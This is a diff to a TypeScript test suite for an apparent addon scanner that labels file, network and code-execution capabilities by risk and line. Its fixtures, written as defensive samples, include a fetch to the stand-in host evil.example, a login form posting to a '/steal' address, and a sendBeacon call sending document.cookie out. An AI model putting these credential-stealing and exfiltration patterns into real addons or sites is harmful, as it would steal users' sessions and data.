@@ -154,6 +154,21 @@ const powers: Trick[] = [
     'file high 2',
   ],
   [
+    'a computed file below its folder',
+    "import { readFileSync } from 'node:fs';\nimport { join } from 'node:path';\nexport const f = (n: string) => readFileSync(join(import.meta.dirname, n));",
+    'file medium 3',
+  ],
+  [
+    'a host before a base',
+    "export const f = () => fetch(new URL('https://evil.example/a', 'https://example.org'));",
+    'network medium 1',
+  ],
+  [
+    'an address that may name a host before a base',
+    "export const f = (path: string) => fetch(new URL(path, 'https://example.org'));",
+    'network high 1',
+  ],
+  [
     'a computed file',
     "import * as fs from 'node:fs/promises';\nexport const f = (p: string) => fs.writeFile(p, '');",
     'file high 2',
@@ -220,7 +235,7 @@ describe('What a hostile addon does is named with its line', () => {
     expect(sheetOf({ 'index.ts': "import './tests/helper.ts';", 'tests/helper.ts': 'eval("1");' })).toMatchObject([
       { kind: 'code', where: [{ file: 'tests/helper.ts', line: 1 }] },
     ]);
-    expect(sheetOf({ 'tests/helper.ts': 'eval("1");' })).toEqual([]);
+    expect(sheetOf({ 'tests/helper.ts': 'eval("1");', 'dist/trap/a.js': 'eval("1");' })).toEqual([]);
     expect(found('export const = ;')).toEqual(['code high 1']);
     expect(found('\u007fELF', 'build/fast.node')).toEqual(['code high 1']);
   });
@@ -268,7 +283,7 @@ describe('What a hostile addon does is named with its line', () => {
     const found = sheetOf({
       'templates/web.login.patch.hbs':
         '<form action="https://example.org/steal">\n<img src="//example.org/a.png">\n<a href="https://example.org">',
-      'styles/a.css': 'a { background: url(https://example.org/b.png) }',
+      'styles/a.scss': 'a { background: url(https://example.org/b.png) }',
       'behaviours/a.ts': "export default () => navigator.sendBeacon('https://example.org/c', document.cookie);",
     });
     expect(found.map((capability) => `${capability.kind} ${capability.risk} ${capabilityText(capability)}`)).toEqual([
